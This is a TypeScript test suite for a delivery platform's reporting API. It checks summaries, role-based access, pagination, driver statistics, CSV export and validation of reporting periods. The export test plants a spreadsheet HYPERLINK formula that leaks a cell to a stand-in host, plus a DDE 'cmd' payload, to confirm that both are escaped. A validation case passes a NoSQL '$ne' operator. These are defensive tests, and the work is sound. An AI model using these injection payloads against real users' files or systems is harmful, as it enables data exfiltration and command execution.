import { afterAll, beforeAll, describe, expect, test } from "bun:test";
import type { OrderView } from "../../../src/shared/orders/order.schema.ts";
import { codeOf } from "../../support/errors.ts";
import { createTestApp, type TestApp } from "../../support/harness.ts";
import { type Business, type Courier, createPeople, type People, type Person } from "../../support/people.ts";

const MINUTE = 60_000;
const DAY = 24 * 60 * MINUTE;

let app: TestApp;
let people: People;
let admin: Person;
let vendor: Business;
let other: Business;
let fast: Courier;
let slow: Courier;
/** All that happens in these tests. */
let period: { from: string; to: string };

beforeAll(async () => {
  app = await createTestApp("reports");
  people = createPeople(app);
  admin = await people.anAdmin();
  [vendor, other] = [await people.aVendor(), await people.aVendor()];
  [fast, slow] = [await people.aDriver(vendor), await people.aDriver(vendor)];
  const elsewhere = await people.aDriver(other);

  await deliver(vendor, fast, 5 * MINUTE);
  app.time.advance(2 * DAY);
  period = { from: iso(0), to: iso(DAY) };
  await deliver(vendor, fast, 10 * MINUTE);
  await deliver(vendor, fast, 20 * MINUTE);
  await deliver(vendor, slow, 300 * MINUTE);
  await deliver(other, elsewhere, 10 * MINUTE);
  const cancelled = await people.anOrder(vendor, vendor.vendorId);
  await vendor.api.orders.cancel({ orderId: cancelled.id, reason: "not needed" });
  await people.anOrder(vendor, vendor.vendorId);
});
afterAll(() => app[Symbol.asyncDispose]());

const iso = (fromNowMs: number) => new Date(app.time.clock.now().getTime() + fromNowMs).toISOString();

/** A whole delivery, handed over `takesMs` after it was ordered. */
async function deliver(by: Business, driver: Courier, takesMs: number): Promise<OrderView> {
  const { id: orderId } = await people.anAssignedOrder(by, driver);
  await driver.api.orders.pickUp({ orderId });
  await driver.api.orders.startDelivery({ orderId });
  app.time.advance(takesMs);
  return driver.api.orders.deliver({ orderId });
}

describe("a summary", () => {
  test("counts what happened in the period, and in the one before it", async () => {
    const { items } = await vendor.api.orders.list({ status: ["delivered"], limit: 100 });
    const ofPeriod = items.filter(({ createdAt }) => createdAt >= period.from);
    const km = ofPeriod.reduce(
      (sum, order) => sum + (order.actualDistanceKm ?? order.estimatedDistanceKm),
      0,
    );
    const summary = await vendor.api.reports.summary(period);
    expect(summary).toMatchObject({ ...period, currency: "EUR" });
    expect(summary.current).toEqual({
      created: 5,
      delivered: 3,
      cancelled: 1,
      onTimeRate: 2 / 3,
      medianMinutes: 20,
      distanceKm: Math.round(km * 10) / 10,
      revenueCents: ofPeriod.reduce((sum, { deliveryFeeCents }) => sum + deliveryFeeCents, 0),
    });
    expect(summary.previous).toMatchObject({
      created: 0,
      delivered: 0,
      onTimeRate: null,
      medianMinutes: null,
    });
  });

  test("has the mean of the middle two where there are two", async () => {
    const from = new Date(Date.parse(period.from) - 3 * DAY).toISOString();
    const { current } = await vendor.api.reports.summary({ from, to: period.to });
    expect(current).toMatchObject({ delivered: 4, medianMinutes: 15 });
  });

  test("includes its first instant and excludes its last", async () => {
    const { items } = await vendor.api.reports.deliveries({ ...period, limit: 1 });
    const [{ createdAt = "" } = {}] = items;
    const next = new Date(Date.parse(createdAt) + 1).toISOString();
    const created = async (from: string, to: string) =>
      (await vendor.api.reports.summary({ from, to })).current.created;
    expect(await created(createdAt, next)).toBeGreaterThan(0);
    expect(await created(next, period.to)).toBe(0);
  });
});

describe("whose figures they are", () => {
  test("a vendor's own, whichever vendor it names", async () => {
    const own = await vendor.api.reports.summary(period);
    const named = await vendor.api.reports.summary({ ...period, vendorId: vendor.vendorId });
    expect(named.current).toEqual(own.current);
    const foreign = { ...period, vendorId: other.vendorId };
    expect((await vendor.api.reports.summary(foreign)).current).toMatchObject({
      created: 0,
      revenueCents: 0,
    });
    expect((await vendor.api.reports.deliveries(foreign)).items).toEqual([]);
    expect(await vendor.api.reports.drivers(foreign)).toEqual([]);
    expect((await vendor.api.reports.export(foreign)).content.split("\r\n")).toHaveLength(2);
  });

  test("everybody's for an administrator, or those of one vendor", async () => {
    expect((await admin.api.reports.summary(period)).current).toMatchObject({ created: 6, delivered: 4 });
    const one = await admin.api.reports.summary({ ...period, vendorId: other.vendorId });
    expect(one.current).toMatchObject({ created: 1, delivered: 1, onTimeRate: 1, medianMinutes: 10 });
  });

  test("nobody else's", async () => {
    const customer = await people.aUser();
    expect(await codeOf(customer.api.reports.summary(period))).toBe("FORBIDDEN");
    expect(await codeOf(fast.api.reports.drivers(period))).toBe("FORBIDDEN");
    expect(await codeOf(app.as(null).reports.export(period))).toBe("UNAUTHENTICATED");
  });
});

test("deliveries come newest first, page by page, with what became of them", async () => {
  const seen: string[] = [];
  const statuses: Record<string, number> = {};
  let cursor: string | undefined;
  do {
    const page = await vendor.api.reports.deliveries({ ...period, limit: 2, cursor });
    for (const row of page.items) {
      seen.push(row.orderId);
      statuses[row.status] = (statuses[row.status] ?? 0) + 1;
      expect(row.onTime === null).toBe(row.status !== "delivered");
    }
    cursor = page.nextCursor ?? undefined;
  } while (cursor);
  expect(statuses).toEqual({ delivered: 3, cancelled: 1, pending: 1 });
  expect(new Set(seen).size).toBe(5);
});

test("drivers come with what they delivered and earned, the busiest first", async () => {
  const rows = await vendor.api.reports.drivers(period);
  expect(rows.map(({ driverId, delivered, onTimeRate }) => ({ driverId, delivered, onTimeRate }))).toEqual([
    { driverId: fast.driverId, delivered: 2, onTimeRate: 1 },
    { driverId: slow.driverId, delivered: 1, onTimeRate: 0 },
  ]);
  const { totalEarningsCents } = await slow.api.drivers.me();
  expect(rows[1]?.earningsCents).toBe(totalEarningsCents);
});

describe("an export", () => {
  test("is a CSV file of the period's orders", async () => {
    const file = await vendor.api.reports.export(period);
    expect(file.contentType).toBe("text/csv; charset=utf-8");
    expect(file.filename).toMatch(/^medex-deliveries-\d{4}-\d\d-\d\d-\d{4}-\d\d-\d\d\.csv$/);
    const [heading, ...rows] = file.content.trimEnd().split("\r\n");
    expect(heading).toBe(
      "order,vendor,driver,status,created,delivered,minutes,on time,distance km,fee,currency",
    );
    expect(rows).toHaveLength(5);
    expect(rows.filter(row => /,delivered,.*,(true|false),[\d.]+,\d+\.\d\d,EUR$/.test(row))).toHaveLength(3);
  });

  test("has nothing in it that a spreadsheet would run", async () => {
    const evil = await people.aVendor();
    const businessName = '=HYPERLINK("http://example.test/?"&A1,"open")';
    await evil.api.vendors.update({ vendorId: evil.vendorId, businessName });
    const driver = await people.aDriver(evil);
    await evil.api.drivers.update({ driverId: driver.driverId, fullName: "@SUM(1+1)*cmd|' /C calc'!A0" });
    // Long after the period of the other tests: an administrator's figures hold everybody's.
    app.time.advance(2 * DAY);
    const from = iso(0);
    await deliver(evil, driver, MINUTE);
    const { content } = await evil.api.reports.export({ from, to: iso(MINUTE) });
    const row = content.split("\r\n")[1] ?? "";
    expect(row).toContain(
      `,"'=HYPERLINK(""http://example.test/?""&A1,""open"")",'@SUM(1+1)*cmd|' /C calc'!A0,`,
    );
  });
});

test.each([
  { from: "2026-01-02T00:00:00Z", to: "2026-01-01T00:00:00Z" },
  { from: "2026-01-01T00:00:00Z", to: "2026-01-01T00:00:00Z" },
  { from: "2020-01-01T00:00:00Z", to: "2026-01-01T00:00:00Z" },
  { from: "yesterday", to: "today" },
  { from: "2026-01-01T00:00:00Z", to: "2026-01-02T00:00:00Z", vendorId: { $ne: null } },
])("a period that is none is refused: %p", async input => {
  expect(await codeOf(vendor.api.reports.summary(input as never))).toBe("INVALID_INPUT");
});
